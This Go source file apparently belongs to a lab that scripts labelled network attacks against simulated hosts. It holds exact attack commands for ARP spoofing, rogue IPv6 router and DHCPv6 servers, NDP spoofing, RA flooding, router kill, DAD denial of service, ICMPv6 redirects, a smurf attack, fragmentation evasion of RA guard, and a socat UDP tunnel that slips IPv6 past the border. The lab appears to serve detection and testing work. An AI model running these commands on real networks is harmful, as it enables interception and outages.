package lab

import (
	"fmt"
	"net/netip"
	"syscall"
	"time"
)

// IPv6 first-hop attacks with thc-ipv6 (Debian names its tools atk6-*)
// and ipv6toolkit, and ARP spoofing with dsniff's arpspoof. The flooding
// tools have no rate option: the attacker's link is capped instead
// (Scenario.RateLimit) and they run a few seconds.

// ipv6FloodRate caps the attacker's link in the flooding IPv6 scenarios.
const ipv6FloodRate = 2_000_000

// ipv6FloodTime bounds the flooding tools' run.
const ipv6FloodTime = 5 * time.Second

// lanVictims are the LAN hosts that take RAs and NDP from whoever sends
// them.
var lanVictims = v4(hostServer, hostWS1, hostWS2, hostIoT)

func init() {
	atk := hostPtr(hostAtk)
	register(
		&Scenario{
			Name: "arp-spoof", Difficulty: Medium,
			Description: "ARP cache poisoning with dsniff's arpspoof: ws1 and the router are told that each other's IPv4 address is at the attacker's MAC (both ways, every 2 s); the attacker forwards, a man in the middle.",
			Tools:       []string{"arpspoof", "sysctl"}, Classes: []string{"arp.spoof"}, MITRE: []string{"T1557.002"},
			Attacker: atk, Victims: v4(hostWS1, hostRouter), Duration: 15 * time.Second,
			Notes: "arpspoof re-announces the true addresses when it stops",
			attack: func(a *attackRun) error {
				if err := a.run(hostAtk, "sysctl", "-q", "-w", "net.ipv4.ip_forward=1"); err != nil {
					return err
				}
				return a.runFor(hostAtk, a.duration, syscall.SIGINT, "arpspoof", "-i", "eth0",
					"-t", hostWS1.IPv4().String(), "-r", hostRouter.IPv4().String())
			},
		},
		&Scenario{
			Name: "ipv6-rogue-ra", Difficulty: Medium,
			Description: "Rogue router: thc-ipv6 fake_router26 announces the attacker as default router with the prefix 2001:db8:bad::/64 and itself as DNS server, every 2 s; the LAN's hosts take addresses and a default route from it.",
			Tools:       []string{"atk6-fake_router26"}, Classes: []string{"ipv6.rogue_ra"}, MITRE: []string{"T1557"},
			Attacker: atk, Victims: lanVictims, Duration: 15 * time.Second,
			Notes: "the legitimate router is fe80::66:ff:fe00:1 (02:66:00:00:00:01); the rogue RAs come from the attacker's link-local address and MAC",
			attack: func(a *attackRun) error {
				return a.run(hostAtk, "atk6-fake_router26", "-A", rogueNet6.String(), "-D", hostAtk.IPv6().String(),
					"-l", "1800", "-i", "2", "-n", fmt.Sprint(max(1, int(a.duration/(2*time.Second)))), "eth0")
			},
		},
		&Scenario{
			Name: "ipv6-ra-flood", Difficulty: Easy,
			Description: "RA flood: thc-ipv6 flood_router26 sends router advertisements from random routers, each with ~25 prefixes and routes, for 5 s (link capped at 2 Mbit/s).",
			Tools:       []string{"atk6-flood_router26"}, Classes: []string{"ipv6.ra_flood"}, MITRE: []string{"T1498"},
			Attacker: atk, Victims: lanVictims, Duration: ipv6FloodTime, RateLimit: ipv6FloodRate,
			Notes: "the source link-local addresses and MACs are random: the attacker is known by the switch port (its MAC appears in none of the RAs)",
			attack: func(a *attackRun) error {
				return a.runFor(hostAtk, min(a.duration, ipv6FloodTime), syscall.SIGTERM, "atk6-flood_router26", "eth0")
			},
		},
		&Scenario{
			Name: "ipv6-kill-router", Difficulty: Medium,
			Description: "Router kill: thc-ipv6 kill_router6 sends RAs with router lifetime 0 in the real router's name, first on its own, then after every RA it sees, so the hosts drop their IPv6 default route.",
			Tools:       []string{"atk6-kill_router6"}, Classes: []string{"ipv6.kill_router"}, MITRE: []string{"T1498"},
			Attacker: atk, Victims: lanVictims, Duration: 15 * time.Second,
			Notes: "the forged RAs carry the real router's link-local address fe80::66:ff:fe00:1 but the attacker's MAC",
			attack: func(a *attackRun) error {
				return a.sequence(
					a.phased("kill announcements", func() error {
						return a.runFor(hostAtk, a.duration/2, syscall.SIGTERM, "atk6-kill_router6", "eth0", hostRouter.LinkLocal().String())
					}),
					a.phased("kill after every RA", func() error {
						return a.runFor(hostAtk, a.duration-a.duration/2, syscall.SIGTERM, "atk6-kill_router6", "eth0", "*")
					}))
			},
		},
		&Scenario{
			Name: "ipv6-na-spoof", Difficulty: Hard,
			Description: "NDP spoofing: thc-ipv6 parasite6 answers every neighbour solicitation with the attacker's MAC (the IPv6 form of ARP spoofing) and repeats its answers every 5 s.",
			Tools:       []string{"atk6-parasite6"}, Classes: []string{"ipv6.na_spoof"}, MITRE: []string{"T1557"},
			Attacker: atk, Victims: v4(hostWS1, hostWS2), Duration: 15 * time.Second,
			Notes: "the lab flushes ws1's and ws2's neighbour caches as the attack starts (ip neigh flush, in tool_commands), so they solicit while parasite6 listens; the spoofed NAs claim other hosts' addresses with the attacker's MAC",
			attack: func(a *attackRun) error {
				return a.during(hostAtk, syscall.SIGTERM, []string{"atk6-parasite6", "-l", "eth0"}, func() error {
					if err := a.sleep(time.Second); err != nil {
						return err
					}
					for _, h := range []Host{hostWS1, hostWS2} {
						if err := a.run(h, "ip", "-6", "neigh", "flush", "dev", "eth0"); err != nil {
							return err
						}
					}
					return a.sleep(a.duration - time.Second)
				})
			},
		},
		&Scenario{
			Name: "ipv6-dad-dos", Difficulty: Hard,
			Description: "DAD denial of service: thc-ipv6 dos-new-ip6 claims every address a host tests for uniqueness; ws2 configures a new address during the attack and has to give it up.",
			Tools:       []string{"atk6-dos-new-ip6"}, Classes: []string{"ipv6.dad_dos"}, MITRE: []string{"T1498"},
			Attacker: atk, Victims: v4(hostWS2), Duration: 15 * time.Second,
			Notes: "the lab adds fd66::2222 to ws2 a third of the way in (ip addr add, in tool_commands); its duplicate address detection fails because the attacker answers for it, from made-up MACs (the switch port is the attacker's)",
			attack: func(a *attackRun) error {
				return a.during(hostAtk, syscall.SIGTERM, []string{"atk6-dos-new-ip6", "eth0"}, func() error {
					if err := a.sleep(a.duration / 3); err != nil {
						return err
					}
					err := a.phase("ws2 configures a new address", func() error {
						return a.run(hostWS2, "ip", "addr", "add", "fd66::2222/64", "dev", "eth0")
					})
					if err != nil {
						return err
					}
					return a.sleep(a.duration - a.duration/3)
				})
			},
		},
		&Scenario{
			Name: "ipv6-redirect", Difficulty: Hard,
			Description: "ICMPv6 redirect: thc-ipv6 redir6 tells ws1, in the real router's name, that the outside server 2001:db8:ff::10 is reached through the attacker (three times).",
			Tools:       []string{"atk6-redir6"}, Classes: []string{"ipv6.redirect"}, MITRE: []string{"T1557"},
			Attacker: atk, Victims: v4(hostWS1), Duration: 15 * time.Second,
			Notes: "the redirects forge the router's link-local address and MAC (fe80::66:ff:fe00:1, 02:66:00:00:00:01) and name the attacker's fe80::66:ff:fe00:42 as the better first hop",
			attack: func(a *attackRun) error {
				for i := range 3 {
					err := a.run(hostAtk, "atk6-redir6", "eth0", hostWS1.IPv6().String(), hostExt.IPv6().String(),
						hostRouter.LinkLocal().String(), hostAtk.LinkLocal().String())
					if err != nil {
						return err
					}
					if i < 2 {
						if err := a.sleep(a.duration / 3); err != nil {
							return err
						}
					}
				}
				return nil
			},
		},
		&Scenario{
			Name: "ipv6-smurf", Difficulty: Medium,
			Description: "IPv6 smurf: thc-ipv6 smurf6 sends echo requests to all-nodes multicast with ws1's address as source, so every host answers ws1 (5 s, link capped at 2 Mbit/s).",
			Tools:       []string{"atk6-smurf6"}, Classes: []string{"ipv6.smurf"}, MITRE: []string{"T1498.002"},
			Attacker: atk, Victims: v4(hostWS1), Duration: ipv6FloodTime, RateLimit: ipv6FloodRate,
			Notes: "the echo requests carry ws1's address and a made-up MAC (00:00:de:ad:be:ef); every host's reply goes to ws1",
			attack: func(a *attackRun) error {
				return a.runFor(hostAtk, min(a.duration, ipv6FloodTime), syscall.SIGTERM,
					"atk6-smurf6", "-i", "2000", "eth0", hostWS1.IPv6().String())
			},
		},
		&Scenario{
			Name: "ipv6-evasion", Difficulty: Hard,
			Description: "Extension-header and fragmentation evasion: thc-ipv6 fragmentation6 test cases against the server, ipv6toolkit tcp6 SYNs to port 22 behind hop-by-hop and destination options split into 8-byte fragments, and RAs behind a hop-by-hop header and atomic fragments (RA-guard evasion).",
			Tools:       []string{"atk6-fragmentation6", "tcp6", "atk6-fake_router26"}, Classes: []string{"ipv6.evasion", "ipv6.rogue_ra"}, MITRE: []string{"T1562", "T1557"},
			Attacker: atk, Victims: v4(hostServer, hostWS1, hostWS2, hostIoT), Duration: 30 * time.Second,
			attack: ipv6EvasionAttack,
		},
		&Scenario{
			Name: "ipv6-tunnel", Difficulty: Medium,
			Description: "IPv6 smuggled in UDP (Teredo-style, port 3544): socat joins a TUN device on the compromised ws1 to one on the outside host through UDP datagrams carrying raw IPv6 packets; ws1 then pings the outside host and fetches a web page from it over IPv6 that the border only sees as UDP.",
			Tools:       []string{"socat", "ip", "ping", "curl"}, Classes: []string{"ipv6.tunnel"}, MITRE: []string{"T1572"},
			AttackerAddrs: []string{hostExt.IPv4().String()}, Victims: v4(hostWS1), Duration: 15 * time.Second,
			Notes:  "the tunnel's inner addresses are " + smuggleNet6.String() + " (ws1 ::2, ext ::1); its UDP datagrams go between ws1 and ext on port 3544",
			attack: ipv6TunnelAttack,
		},
		&Scenario{
			Name: "ipv6-rogue-dhcpv6", Difficulty: Hard,
			Description: "Rogue DHCPv6 server: thc-ipv6 fake_dhcps6 answers ws2's DHCPv6 solicits with an address in 2001:db8:bad::/64 and the attacker as DNS server.",
			Tools:       []string{"atk6-fake_dhcps6", "dhclient"}, Classes: []string{"ipv6.rogue_dhcpv6"}, MITRE: []string{"T1557"},
			Attacker: atk, Victims: v4(hostWS2), Duration: 15 * time.Second,
			Notes:  "the lab runs a DHCPv6 client on ws2 during the attack (the LAN has no DHCPv6 server of its own); its command is among tool_commands",
			attack: rogueDHCPv6Attack,
		},
	)
}

func ipv6EvasionAttack(a *attackRun) error {
	srv := hostServer.IPv6().String()
	return a.sequence(
		a.phased("fragmentation test cases", func() error {
			return a.runUpTo(hostAtk, a.duration/2, "atk6-fragmentation6", "-p", "-n", "1", "eth0", srv)
		}),
		a.phased("SYNs behind extension headers in fragments", func() error {
			// One SYN a second (tcp6's own loop has no useful rate bound).
			for range max(3, int(a.duration/(4*time.Second))) {
				err := a.run(hostAtk, "tcp6", "-i", "eth0", "-d", srv, "-a", "22", "-X", "S", "-H", "8", "-u", "24", "-y", "8")
				if err != nil {
					return err
				}
				if err := a.sleep(time.Second); err != nil {
					return err
				}
			}
			return nil
		}),
		a.phased("RA-guard evasion", func() error {
			return a.run(hostAtk, "atk6-fake_router26", "-E", "H111", "-A", rogueNet6.String(), "-n", "3", "-i", "1", "eth0")
		}),
	)
}

func rogueDHCPv6Attack(a *attackRun) error {
	server := []string{"atk6-fake_dhcps6", "eth0", rogueNet6.String(), hostAtk.IPv6().String()}
	return a.during(hostAtk, syscall.SIGTERM, server, func() error {
		if err := a.sleep(2 * time.Second); err != nil {
			return err
		}
		err := a.phase("ws2 asks for a DHCPv6 lease", func() error {
			// -sf /bin/true: dhclient configures nothing and touches no file of the host's.
			return a.runFor(hostWS2, a.duration-4*time.Second, syscall.SIGTERM, "dhclient", "-6", "-d", "-sf", "/bin/true",
				"-lf", a.w.path("dhclient6.leases"), "-pf", a.w.path("dhclient6.pid"), "eth0")
		})
		if err != nil {
			return err
		}
		return a.sleep(2 * time.Second)
	})
}

// ipv6TunnelAttack carries IPv6 in UDP between ws1 and ext (socat between
// TUN devices, raw IPv6 packets in the datagrams: Teredo's framing on its
// port) and uses the tunnel for pings and an HTTP fetch.
func ipv6TunnelAttack(a *attackRun) error {
	end := func(local, peer Host, tun4 netip.Addr) []string {
		return []string{"socat", fmt.Sprintf("TUN:%s/30,tun-name=vgltun,iff-no-pi,up", tun4),
			fmt.Sprintf("UDP-DATAGRAM:%s:3544,bind=%s:3544", peer.IPv4(), local.IPv4())}
	}
	ext4, ws4 := hostAddr(smuggleNet4, 1), hostAddr(smuggleNet4, 2)
	ext6, ws6 := hostAddr(smuggleNet6, 1), hostAddr(smuggleNet6, 2)
	return a.during(hostExt, syscall.SIGTERM, end(hostExt, hostWS1, ext4), func() error {
		return a.during(hostWS1, syscall.SIGTERM, end(hostWS1, hostExt, ws4), func() error {
			if err := a.sleep(time.Second); err != nil { // the TUN devices come up
				return err
			}
			for _, side := range []struct {
				h    Host
				addr netip.Addr
			}{{hostExt, ext6}, {hostWS1, ws6}} {
				if err := a.run(side.h, "ip", "-6", "addr", "add", side.addr.String()+"/64", "dev", "vgltun", "nodad"); err != nil {
					return err
				}
			}
			return a.sequence(
				a.phased("pings through the tunnel", func() error {
					return a.run(hostWS1, "ping", "-6", "-c", "10", "-i", "0.5", ext6.String())
				}),
				a.phased("HTTP through the tunnel", func() error {
					return a.run(hostWS1, "curl", "-s", "--max-time", "5", "-o", "/dev/null", "http://["+ext6.String()+"]/")
				}),
			)
		})
	})
}
